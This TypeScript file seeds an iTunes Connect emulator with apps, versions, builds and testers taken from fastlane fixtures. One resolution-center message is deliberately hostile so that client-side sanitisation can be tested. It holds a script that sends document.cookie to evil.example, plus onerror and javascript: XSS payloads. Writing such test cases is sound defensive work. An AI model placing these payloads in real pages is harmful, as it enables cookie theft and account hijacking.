// Seed state of the iTunes Connect emulator, built from fastlane's recorded responses (./fixtures, MIT).
// Three apps whose versions, build trains, builds, testers and resolution-center threads agree with each other:
//
//   898536088  "App Name 1"        net.sunapps.107         live 0.9.13 (812106519, readyForSale)
//                                                          edit 1.0    (813314674, prepareForUpload, build 1.0 (10))
//                                                          trains 0.9.13 [9], 1.0 [10, 11]; 1.0 (12) processing
//   1013943394 "app name why not"  net.sunapps.realtestda  live 1.0    (814624685, readyForSale), no edit version
//                                                          trains 1.0 [1]
//   1006641907 "App Name 3"        net.sunapps.187         edit 0.9.13 (812758182, waitingForReview, build 0.9.13 (7))
//                                                          trains 0.9.13 [6, 7]; resolution center holds a hostile <script>
//
// External testers (account-wide, `ra/users/pre/ext`): Detlef Müller <private@krausefx.com>, in "App Testers Group"
// (e031d021-…, a group the recorded `groups` map lacks), and Felix Krause <ich@felixkrause.at>, in no group; the
// map holds seven more groups (MyGroup, Boarding, …), all empty.
import appSummaryFx from './fixtures/app_summary.json';
import appVersionFx from './fixtures/app_version.json';
import buildTrainsFx from './fixtures/build_trains.json';
import buildDetailsFx from './fixtures/build_details.json';
import resolutionFx from './fixtures/app_resolution_center.json';
import externalTestersFx from './fixtures/testers/get_external.json';
import { clone, EDITABLE_STATES, REJECTABLE_STATES, sections, type Envelope, type Field, type Str, type VersionData, type VersionDetail } from './model';

type Obj = Record<string, unknown>;

export const VERSION_TEMPLATE = (appVersionFx as unknown as Envelope<VersionData>).data;
const TRAIN_TEMPLATE = (buildTrainsFx as unknown as Envelope<{ trains: (Obj & { builds: Obj[] })[] }>).data.trains[0]!;
const BUILD_TEMPLATE = TRAIN_TEMPLATE.builds[0]!;
const BUILD_DETAILS_TEMPLATE = (buildDetailsFx as unknown as Envelope<Obj>).data;
export const SUMMARY_TEMPLATE = (appSummaryFx as unknown as Envelope<Obj & { summaries: Obj[] }>).data;
const RESOLUTION_TEMPLATE = (resolutionFx as unknown as Envelope<Obj & { appNotes: { threads: Obj[] } }>).data;
const TESTERS_TEMPLATE = (externalTestersFx as unknown as Envelope<Obj & { testers: Tester[] }>).data;

/** A group a tester belongs to, as `ra/users/pre/ext` and `ra/users/pre/create` list it inside each tester. */
export interface TesterGroup extends Obj {
  id: Str;
  name: Field<Str>;
}

export interface Tester extends Obj {
  emailAddress: Field<Str>;
  firstName: Field<Str>;
  lastName: Field<Str>;
  testerId: Str;
  groups: TesterGroup[];
}

/** A group inside a listed tester, as recorded in get_external.json (its name field: maxLength 25, minLength 1). */
export const LISTED_GROUP_TEMPLATE: TesterGroup = TESTERS_TEMPLATE.testers[0]!.groups[0]!;

export interface BuildState {
  /** The build object as listed inside a train (fixture shape, including `buildTestInformationTO`). */
  build: Obj & { buildVersion: string; trainVersion: string; buildTestInformationTO: Obj };
  /** `…/builds/{build}/details` data. */
  details: Obj;
}

export interface TrainState {
  /** Train object without `builds` (fixture shape). */
  train: Obj & { versionString: string; platform: string };
  builds: BuildState[];
}

export interface AppState {
  adamId: string;
  name: string;
  vendorId: string;
  bundleId: string;
  primaryLanguage: string;
  lastModifiedDate: number;
  iconUrl: string | null;
  /** At most one live (readyForSale) version and one version in flight. */
  versions: VersionData[];
  trains: TrainState[];
  processingBuilds: Obj[];
  /** `resolutionCenter` data. */
  resolution: Obj & { appNotes: { threads: Obj[] } };
  /** Submissions started with `submit/summary`, by version id. */
  submissions: Map<number, Obj>;
}

export interface ItcState {
  apps: AppState[];
  testers: Tester[];
  testerGroups: Record<string, string>;
  testerDevices: Record<string, string[]>;
  /** App IDs registered on the developer account (`bundleIds` of the create-app form). */
  bundleIds: Record<string, string>;
  nextId: number;
}

export interface LocSpec {
  language: string;
  name: Str;
  description: Str;
  keywords: Str;
  releaseNotes: Str;
  supportUrl: Str;
  marketingUrl: Str;
  privacyURL: Str;
}

export interface VersionSpec {
  adamId: string;
  appName: string;
  versionId: number;
  version: string;
  status: string;
  copyright: Str;
  primaryLanguage: string;
  build: { train: string; build: string; uploadDate: number } | null;
  locs: LocSpec[];
}

const GERMAN = VERSION_TEMPLATE.details.value[0]!;
const ENGLISH = VERSION_TEMPLATE.details.value[1]!;
let detailCounter = 1166839124;

export function makeDetail(loc: LocSpec): VersionDetail {
  const d = clone(GERMAN);
  const f = <T>(tpl: Field<T>, value: T): Field<T> => ({ ...clone(tpl), value });
  d.language = loc.language;
  d.detailId = String(detailCounter++);
  d.name = f(GERMAN.name, loc.name);
  d.description = f(GERMAN.description, loc.description);
  d.keywords = f(GERMAN.keywords, loc.keywords);
  d.releaseNotes = f(GERMAN.releaseNotes, loc.releaseNotes);
  d.supportUrl = f(GERMAN.supportUrl, loc.supportUrl);
  d.marketingUrl = f(GERMAN.marketingUrl, loc.marketingUrl);
  d.privacyURL = f(GERMAN.privacyURL, loc.privacyURL);
  d.screenshots = [];
  d.displayFamilies = clone(ENGLISH['displayFamilies']);
  return d;
}

/** Sets `isEditable` and the `can…` flags of a version from its state, as iTunes Connect does. */
export function applyState(v: VersionData, status: string, hasLiveVersion: boolean): void {
  v.status = status;
  const editable = EDITABLE_STATES.has(status);
  const live = status === 'readyForSale';
  v.canRejectVersion = REJECTABLE_STATES.has(status);
  v.canPrepareForUpload = false;
  v.canSendVersionLive = status === 'pendingDeveloperRelease';
  v.copyright.isEditable = editable;
  v.primaryLanguage.isEditable = editable && !hasLiveVersion;
  v.preReleaseBuildVersionString.isEditable = editable;
  (v['releaseOnApproval'] as Field).isEditable = editable;
  (v['autoReleaseDate'] as Field).isEditable = editable;
  for (const d of v.details.value) {
    for (const k of ['name', 'keywords'] as const) d[k].isEditable = editable;
    // What's New is only editable (and needed) for an update.
    d.releaseNotes.isEditable = editable && hasLiveVersion;
    // Live versions keep description and URLs editable (as recorded in app_version.json).
    for (const k of ['description', 'supportUrl', 'marketingUrl', 'privacyURL'] as const) d[k].isEditable = editable || live;
  }
  const review = v['appReviewInfo'] as Record<string, Field>;
  for (const fld of Object.values(review)) fld.isEditable = editable;
}

export function makeVersion(spec: VersionSpec, hasLiveVersion: boolean): VersionData {
  const v = clone(VERSION_TEMPLATE);
  Object.assign(v, sections());
  v.versionId = spec.versionId;
  v.name.value = spec.appName;
  v.version.value = spec.version;
  v.copyright.value = spec.copyright;
  v.primaryLanguage.value = spec.primaryLanguage;
  v.details.value = spec.locs.map(makeDetail);
  v.appVersionPageLinks = Object.fromEntries(
    Object.entries(VERSION_TEMPLATE.appVersionPageLinks).map(([k, link]) => [k, link.replace('adamId=981112404', `adamId=${spec.adamId}`)]),
  );
  setBuild(v, spec.build);
  v.isSaveError = false;
  v.validationError = false;
  applyState(v, spec.status, hasLiveVersion);
  return v;
}

export function setBuild(v: VersionData, b: { train: string; build: string; uploadDate: number } | null): void {
  v.preReleaseBuildVersionString.value = b ? b.train : null;
  v.preReleaseBuild = b ? { buildVersion: b.build } : null;
  v.preReleaseBuildTrainVersionString = b ? b.train : null;
  v.preReleaseBuildUploadDate = b ? b.uploadDate : 0;
  v['preReleaseBuildsAreAvailable'] = true;
}

let buildIdCounter = 5577102;

export function makeBuild(app: { name: string; bundleId: string }, train: string, buildVersion: string, uploadDate: number, externalTesting: boolean): BuildState {
  const build = clone(BUILD_TEMPLATE) as BuildState['build'];
  build.buildVersion = buildVersion;
  build.trainVersion = train;
  build.uploadDate = uploadDate;
  build.appName = app.name;
  build.id = buildIdCounter++;
  build.internalExpiry = uploadDate + 90 * 86_400_000;
  (build.externalTesting as Field<boolean>).value = externalTesting;
  build.betaState = externalTesting ? 'approved' : 'submitForReview';
  const details = clone(BUILD_DETAILS_TEMPLATE);
  details.uploadDate = uploadDate;
  details.bundleId = app.bundleId;
  details.appName = app.name;
  details.cfBundleVersion = buildVersion;
  details.cfBundleShortVersion = train;
  details.fileName = `${app.name.replace(/[^A-Za-z0-9]+/g, '')}.ipa`;
  return { build, details };
}

export function makeTrain(versionString: string, builds: BuildState[], externalTesting: boolean): TrainState {
  const { builds: _omit, ...train } = clone(TRAIN_TEMPLATE);
  train.versionString = versionString;
  train.platform = 'ios';
  (train.externalTesting as Field<boolean>).value = externalTesting;
  return { train: train as TrainState['train'], builds };
}

const DAY = 86_400_000;
const T0 = 1443144470000; // upload date of the recorded build (2015-09-25)

/** Apple's rejection message bodies are HTML; this one is hostile, to exercise sanitisation in clients. */
export const HOSTILE_MESSAGE_BODY =
  '<b>Guideline 2.3 - Performance - Accurate Metadata</b><BR/><BR/>We noticed that your screenshots do not sufficiently reflect your app in use.' +
  '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>' +
  '<BR/><img src="x" onerror="alert(\'xss\')"><BR/><a href="javascript:alert(document.domain)">View the guideline</a>' +
  '<BR/><a href="https://developer.apple.com/app-store/review/guidelines/#accurate-metadata">App Store Review Guidelines</a><BR/>';

function resolution(threads: Obj[]): AppState['resolution'] {
  const r = clone(RESOLUTION_TEMPLATE);
  r.appNotes.threads = threads;
  return r;
}

export function createSeed(): ItcState {
  detailCounter = 1166839124;
  buildIdCounter = 5577102;

  // --- App A: live 0.9.13 + edit 1.0 ---
  const a = { adamId: '898536088', name: 'App Name 1', bundleId: 'net.sunapps.107' };
  const aLocsLive: LocSpec[] = [
    { language: 'English', name: 'App Name 1', description: 'Super Description here', keywords: 'Some random titles', releaseNotes: 'Also News', supportUrl: 'http://url.com', marketingUrl: 'https://sunapps.net', privacyURL: 'http://privacy.sunapps.net' },
    { language: 'German', name: 'App Name 1', description: 'Meine Beschreibung', keywords: 'More random stuff', releaseNotes: 'Wow, News', supportUrl: 'http://url.com', marketingUrl: 'https://sunapps.net', privacyURL: 'http://privacy.sunapps.net' },
  ];
  const aLocsEdit = aLocsLive.map((l) => ({ ...l, releaseNotes: l.language === 'German' ? 'Fehlerbehebungen' : 'Bug fixes and performance improvements.' }));
  const aTrains = [
    makeTrain('0.9.13', [makeBuild(a, '0.9.13', '9', T0 - 180 * DAY, false)], false),
    makeTrain('1.0', [makeBuild(a, '1.0', '10', T0, true), makeBuild(a, '1.0', '11', T0 + 2 * DAY, false)], true),
  ];
  const appA: AppState = {
    ...a, vendorId: '107', primaryLanguage: 'English', lastModifiedDate: 1435685244000,
    iconUrl: (SUMMARY_TEMPLATE.summaries[0] as Obj).iconUrl as string,
    versions: [
      makeVersion({ adamId: a.adamId, appName: a.name, versionId: 812106519, version: '0.9.13', status: 'readyForSale', copyright: '2015 SunApps GmbH', primaryLanguage: 'English', build: { train: '0.9.13', build: '9', uploadDate: T0 - 180 * DAY }, locs: aLocsLive }, true),
      makeVersion({ adamId: a.adamId, appName: a.name, versionId: 813314674, version: '1.0', status: 'prepareForUpload', copyright: '2015 SunApps GmbH', primaryLanguage: 'English', build: { train: '1.0', build: '10', uploadDate: T0 }, locs: aLocsEdit }, true),
    ],
    trains: aTrains,
    processingBuilds: [{ uploadDate: T0 + 3 * DAY, buildVersion: '12', trainVersion: '1.0', platform: 'ios', processingState: 'processing' }],
    resolution: resolution(RESOLUTION_TEMPLATE.appNotes.threads.map((t) => ({ ...clone(t), versionId: '812106519', version: '0.9.13', active: false }))),
    submissions: new Map(),
  };

  // --- App B: live 1.0 only (a new version can be created) ---
  const b = { adamId: '1013943394', name: 'app name why not', bundleId: 'net.sunapps.realtestda' };
  const appB: AppState = {
    ...b, vendorId: '1435592086', primaryLanguage: 'English', lastModifiedDate: 1435596669000, iconUrl: null,
    versions: [
      makeVersion({ adamId: b.adamId, appName: b.name, versionId: 814624685, version: '1.0', status: 'readyForSale', copyright: '2015 SunApps GmbH', primaryLanguage: 'English', build: { train: '1.0', build: '1', uploadDate: T0 - 90 * DAY }, locs: [
        { language: 'English', name: 'app name why not', description: 'Why not an app that does exactly what its name says?', keywords: 'why,not,app', releaseNotes: null, supportUrl: 'https://sunapps.net/support', marketingUrl: null, privacyURL: 'https://sunapps.net/privacy' },
      ] }, false),
    ],
    trains: [makeTrain('1.0', [makeBuild(b, '1.0', '1', T0 - 90 * DAY, false)], false)],
    processingBuilds: [],
    resolution: resolution([]),
    submissions: new Map(),
  };

  // --- App C: first version waiting for review, earlier rejection in the resolution center ---
  const c = { adamId: '1006641907', name: 'App Name 3', bundleId: 'net.sunapps.187' };
  const appC: AppState = {
    ...c, vendorId: '187', primaryLanguage: 'English', lastModifiedDate: 1435219008000,
    iconUrl: (SUMMARY_TEMPLATE.summaries[2] as Obj).iconUrl as string,
    versions: [
      makeVersion({ adamId: c.adamId, appName: c.name, versionId: 812758182, version: '0.9.13', status: 'waitingForReview', copyright: '2015 SunApps GmbH', primaryLanguage: 'English', build: { train: '0.9.13', build: '7', uploadDate: T0 - 10 * DAY }, locs: [
        { language: 'English', name: 'App Name 3', description: 'The third app of the sandbox: waiting for review after a rejection.', keywords: 'sandbox,review', releaseNotes: null, supportUrl: 'https://sunapps.net/187/support', marketingUrl: null, privacyURL: null },
      ] }, false),
    ],
    trains: [makeTrain('0.9.13', [makeBuild(c, '0.9.13', '6', T0 - 20 * DAY, false), makeBuild(c, '0.9.13', '7', T0 - 10 * DAY, false)], false)],
    processingBuilds: [],
    resolution: resolution([{
      id: '206701', versionId: '812758182', version: '0.9.13',
      messages: [
        { from: 'Apple', date: T0 - 15 * DAY, body: HOSTILE_MESSAGE_BODY, appleMsg: true, tokens: [], hasObjectionableContent: false,
          qcRejectionReasons: [{ section: '2.3', description: ' Accurate Metadata' }] },
        { from: 'SunApps GmbH', date: T0 - 12 * DAY, body: 'We replaced the screenshots &amp; uploaded build 7. Thanks!', appleMsg: false, tokens: [], hasObjectionableContent: false, qcRejectionReasons: [] },
      ],
      active: true, canDeveloperAddNote: true, metadataRejected: true, binaryRejected: false,
    }]),
    submissions: new Map(),
  };

  const testers = clone(TESTERS_TEMPLATE.testers);
  return {
    apps: [appA, appB, appC],
    testers,
    testerGroups: clone(TESTERS_TEMPLATE.groups as Record<string, string>),
    testerDevices: clone(TESTERS_TEMPLATE.devices as Record<string, string[]>),
    bundleIds: {
      'com.krausefx.app_name': 'Spaceship App - com.krausefx.app_name',
      'net.sunapps.*': 'SunApps - net.sunapps.*',
      'net.sunapps.947474': 'My App Name - net.sunapps.947474',
      '*': 'Xcode iOS Wildcard App ID - *',
      'net.sunapps.100': 'Baconfy - net.sunapps.100',
      'net.sunapps.107': 'App Name 1 - net.sunapps.107',
      'net.sunapps.realtestda': 'Real Test - net.sunapps.realtestda',
      'net.sunapps.187': 'App Name 3 - net.sunapps.187',
    },
    nextId: 1100000000,
  };
}

/** The live (on-store) version and the version in flight, with iTunes Connect's fallback: when an app has only
 * one version, `ra/apps/version/{id}` answers that version for both `v=live` and the edit request. */
export function liveVersion(app: AppState): VersionData | undefined {
  return app.versions.find((v) => v.status === 'readyForSale');
}

export function editVersion(app: AppState): VersionData | undefined {
  return app.versions.find((v) => v.status !== 'readyForSale');
}
